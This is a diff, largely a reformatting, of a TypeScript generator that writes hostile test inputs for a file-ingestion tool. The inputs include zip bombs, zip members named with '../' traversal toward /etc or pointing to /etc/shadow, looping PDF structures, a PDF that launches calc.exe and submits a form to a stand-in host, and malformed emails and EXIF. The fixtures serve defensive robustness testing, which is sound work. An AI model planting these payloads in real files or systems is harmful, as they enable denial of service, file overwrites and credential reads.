@@ -6,12 +6,17 @@ import { join } from 'node:path';
 import { deflateRawSync } from 'node:zlib';
 import yazl from 'yazl';
 
-export interface HostileInput { path: string; klass: 'archive' | 'pdf' | 'email' | 'image' | 'filesystem'; what: string }
+export interface HostileInput {
+  path: string;
+  klass: 'archive' | 'pdf' | 'email' | 'image' | 'filesystem';
+  what: string;
+}
 
 function zip(entries: { name: string; data: Buffer; mode?: number; compress?: boolean }[]): Promise<Buffer> {
   return new Promise((resolve, reject) => {
     const z = new yazl.ZipFile();
-    for (const e of entries) z.addBuffer(e.data, e.name, { mtime: new Date('2017-05-01T10:00:00Z'), mode: e.mode, compress: e.compress ?? true });
+    for (const e of entries)
+      z.addBuffer(e.data, e.name, { mtime: new Date('2017-05-01T10:00:00Z'), mode: e.mode, compress: e.compress ?? true });
     z.end();
     const chunks: Buffer[] = [];
     z.outputStream.on('data', (c: Buffer) => chunks.push(c));
@@ -80,7 +85,11 @@ function pdf(objects: string[], trailer: string, opts: { xref?: boolean } = {}):
   return Buffer.from(out, 'latin1');
 }
 
-const CATALOG = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'];
+const CATALOG = [
+  '<< /Type /Catalog /Pages 2 0 R >>',
+  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
+];
 
 function jpegWithExif(tiff: Buffer): Buffer {
   const app1 = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
@@ -123,44 +132,150 @@ export async function writeHostileDump(root: string): Promise<HostileInput[]> {
   put('archives/bomb-nested.zip', nested, 'archive', 'nested zip bomb (8^4 copies of a 20 MB member)');
   put('archives/traversal.zip', rawZip('../../../../etc/evil.txt', Buffer.from('pwned')), 'archive', 'member name with ../');
   put('archives/absolute.zip', rawZip('/etc/passwd', Buffer.from('root:x:0:0')), 'archive', 'member with an absolute path');
-  put('archives/symlink-member.zip', await zip([{ name: 'link-to-shadow', data: Buffer.from('/etc/shadow'), mode: 0o120777 }]), 'archive', 'symlink member');
+  put(
+    'archives/symlink-member.zip',
+    await zip([{ name: 'link-to-shadow', data: Buffer.from('/etc/shadow'), mode: 0o120777 }]),
+    'archive',
+    'symlink member',
+  );
   let deep = await zip([{ name: 'bottom.txt', data: Buffer.from('the bottom of ten zips') }]);
   for (let i = 0; i < 9; i++) deep = await zip([{ name: `level-${9 - i}.zip`, data: deep }]);
   put('archives/nested-10.zip', deep, 'archive', 'zip nested 10 deep');
   put('archives/encrypted.zip', rawZip('secret.txt', Buffer.from('encrypted?'), { flags: 0x0801 }), 'archive', 'encrypted zip member');
-  const good = await zip([{ name: 'a.txt', data: Buffer.from('a'.repeat(5000)) }, { name: 'b.txt', data: Buffer.from('b'.repeat(5000)) }]);
+  const good = await zip([
+    { name: 'a.txt', data: Buffer.from('a'.repeat(5000)) },
+    { name: 'b.txt', data: Buffer.from('b'.repeat(5000)) },
+  ]);
   put('archives/truncated.zip', good.subarray(0, Math.floor(good.length * 0.6)), 'archive', 'truncated zip');
-  put('archives/lying-cd.zip', rawZip('liar.txt', Buffer.from('x'.repeat(100_000)), { lieSize: 10 }), 'archive', 'central directory lies about the size');
+  put(
+    'archives/lying-cd.zip',
+    rawZip('liar.txt', Buffer.from('x'.repeat(100_000)), { lieSize: 10 }),
+    'archive',
+    'central directory lies about the size',
+  );
 
   // --- PDFs
-  put('pdf/broken-xref.pdf', Buffer.from(pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>').toString('latin1').replace(/0000000\d\d\d 00000 n/g, '9999999999 00000 n'), 'latin1'), 'pdf', 'broken xref offsets');
+  put(
+    'pdf/broken-xref.pdf',
+    Buffer.from(
+      pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>')
+        .toString('latin1')
+        .replace(/0000000\d\d\d 00000 n/g, '9999999999 00000 n'),
+      'latin1',
+    ),
+    'pdf',
+    'broken xref offsets',
+  );
   {
     const base = pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>').toString('latin1');
     const at = Buffer.byteLength(base, 'latin1');
     const loop = `${base}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${at} >>\nstartxref\n${at}\n%%EOF\n`;
     put('pdf/prev-loop.pdf', Buffer.from(loop, 'latin1'), 'pdf', '/Prev chain that loops');
   }
-  put('pdf/objstm-self.pdf', pdf([...CATALOG, '<< /Type /ObjStm /N 1 /First 4 /Length 8 /Extends 4 0 R >>\nstream\n4 0 4 0 R\nendstream'], '<< /Size 5 /Root 1 0 R >>'), 'pdf', 'object stream that references itself');
-  put('pdf/huge-length.pdf', pdf([...CATALOG, '<< /Length 99999999999 >>\nstream\nabc\nendstream'], '<< /Size 5 /Root 1 0 R >>'), 'pdf', 'huge declared stream length');
-  put('pdf/active-content.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>', CATALOG[1], CATALOG[2], '<< /S /Launch /F (calc.exe) >>', '<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("http://tracker.invalid/"\\);) >>'], '<< /Size 6 /Root 1 0 R >>'), 'pdf', 'JavaScript and a launch action');
+  put(
+    'pdf/objstm-self.pdf',
+    pdf(
+      [...CATALOG, '<< /Type /ObjStm /N 1 /First 4 /Length 8 /Extends 4 0 R >>\nstream\n4 0 4 0 R\nendstream'],
+      '<< /Size 5 /Root 1 0 R >>',
+    ),
+    'pdf',
+    'object stream that references itself',
+  );
+  put(
+    'pdf/huge-length.pdf',
+    pdf([...CATALOG, '<< /Length 99999999999 >>\nstream\nabc\nendstream'], '<< /Size 5 /Root 1 0 R >>'),
+    'pdf',
+    'huge declared stream length',
+  );
+  put(
+    'pdf/active-content.pdf',
+    pdf(
+      [
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
+        CATALOG[1],
+        CATALOG[2],
+        '<< /S /Launch /F (calc.exe) >>',
+        '<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("http://tracker.invalid/"\\);) >>',
+      ],
+      '<< /Size 6 /Root 1 0 R >>',
+    ),
+    'pdf',
+    'JavaScript and a launch action',
+  );
   put('pdf/truncated.pdf', pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>').subarray(0, 120), 'pdf', 'truncated PDF');
   put('pdf/not-a-pdf.pdf', Buffer.from('This is a plain text file wearing a .pdf name.\n'), 'pdf', 'not a PDF but named .pdf');
 
   // --- emails
-  put('mail/huge-header.eml', `From: a@example.org\nTo: b@example.org\nSubject: big\nX-Huge: ${'A'.repeat(10 << 20)}\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nbody\n`, 'email', '10 MB header line');
+  put(
+    'mail/huge-header.eml',
+    `From: a@example.org\nTo: b@example.org\nSubject: big\nX-Huge: ${'A'.repeat(10 << 20)}\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nbody\n`,
+    'email',
+    '10 MB header line',
+  );
   {
     let body = 'leaf\n';
     for (let i = 999; i >= 0; i--) body = `Content-Type: multipart/mixed; boundary="b${i}"\n\n--b${i}\n${body}\n--b${i}--\n`;
-    put('mail/deep-multipart.eml', `From: a@example.org\nTo: b@example.org\nSubject: deep\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\n${body}`, 'email', 'multipart nested 1000 deep');
+    put(
+      'mail/deep-multipart.eml',
+      `From: a@example.org\nTo: b@example.org\nSubject: deep\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\n${body}`,
+      'email',
+      'multipart nested 1000 deep',
+    );
   }
-  put('mail/lying-charset.eml', Buffer.concat([Buffer.from('From: a@example.org\nTo: b@example.org\nSubject: =?x-unknown-charset?B?w6k=?=\nDate: Mon, 1 May 2017 10:00:00 +0200\nContent-Type: text/plain; charset=utf-16\n\n'), Buffer.from([0xe9, 0x74, 0xe9, 0x0a, 0xff, 0xfe, 0x00])]), 'email', 'unknown and lying charsets');
-  put('mail/broken-encodings.eml', 'From: a@example.org\nTo: b@example.org\nSubject: enc\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!not*base64###\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nbroken =ZZ soft=\n=\n--x--\n', 'email', 'broken base64 and quoted-printable');
-  put('mail/unescaped-from.mbox', 'From a@example.org Mon May  1 10:00:00 2017\nFrom: a@example.org\nSubject: one\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nHello\nFrom here on, this body line starts with From and is not escaped.\n\nFrom a@example.org Mon May  1 11:00:00 2017\nFrom: a@example.org\nSubject: two\nDate: Mon, 1 May 2017 11:00:00 +0200\n\nSecond\n', 'email', 'mbox with unescaped From lines in bodies');
+  put(
+    'mail/lying-charset.eml',
+    Buffer.concat([
+      Buffer.from(
+        'From: a@example.org\nTo: b@example.org\nSubject: =?x-unknown-charset?B?w6k=?=\nDate: Mon, 1 May 2017 10:00:00 +0200\nContent-Type: text/plain; charset=utf-16\n\n',
+      ),
+      Buffer.from([0xe9, 0x74, 0xe9, 0x0a, 0xff, 0xfe, 0x00]),
+    ]),
+    'email',
+    'unknown and lying charsets',
+  );
+  put(
+    'mail/broken-encodings.eml',
+    'From: a@example.org\nTo: b@example.org\nSubject: enc\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!not*base64###\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nbroken =ZZ soft=\n=\n--x--\n',
+    'email',
+    'broken base64 and quoted-printable',
+  );
+  put(
+    'mail/unescaped-from.mbox',
+    'From a@example.org Mon May  1 10:00:00 2017\nFrom: a@example.org\nSubject: one\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nHello\nFrom here on, this body line starts with From and is not escaped.\n\nFrom a@example.org Mon May  1 11:00:00 2017\nFrom: a@example.org\nSubject: two\nDate: Mon, 1 May 2017 11:00:00 +0200\n\nSecond\n',
+    'email',
+    'mbox with unescaped From lines in bodies',
+  );
   put('mail/empty.eml', '', 'email', '0-byte .eml');
 
   // --- images with corrupt EXIF
-  put('images/exif-offset-outside.jpg', jpegWithExif(tiff([[0x010f, 2, 100, 0x7fffffff], [0x8769, 4, 1, 0x7ffffff0]], 0)), 'image', 'EXIF offsets pointing outside the file');
-  put('images/exif-ifd-loop.jpg', jpegWithExif(tiff([[0x0110, 2, 4, 0x00616263], [0x8769, 4, 1, 8]], 8)), 'image', 'EXIF IFD loop');
+  put(
+    'images/exif-offset-outside.jpg',
+    jpegWithExif(
+      tiff(
+        [
+          [0x010f, 2, 100, 0x7fffffff],
+          [0x8769, 4, 1, 0x7ffffff0],
+        ],
+        0,
+      ),
+    ),
+    'image',
+    'EXIF offsets pointing outside the file',
+  );
+  put(
+    'images/exif-ifd-loop.jpg',
+    jpegWithExif(
+      tiff(
+        [
+          [0x0110, 2, 4, 0x00616263],
+          [0x8769, 4, 1, 8],
+        ],
+        8,
+      ),
+    ),
+    'image',
+    'EXIF IFD loop',
+  );
 
   // --- the file system
   const badName = Buffer.concat([Buffer.from(join(root, 'fs') + '/'), Buffer.from([0x6e, 0x6f, 0xe9, 0xff, 0x2e, 0x74, 0x78, 0x74])]);
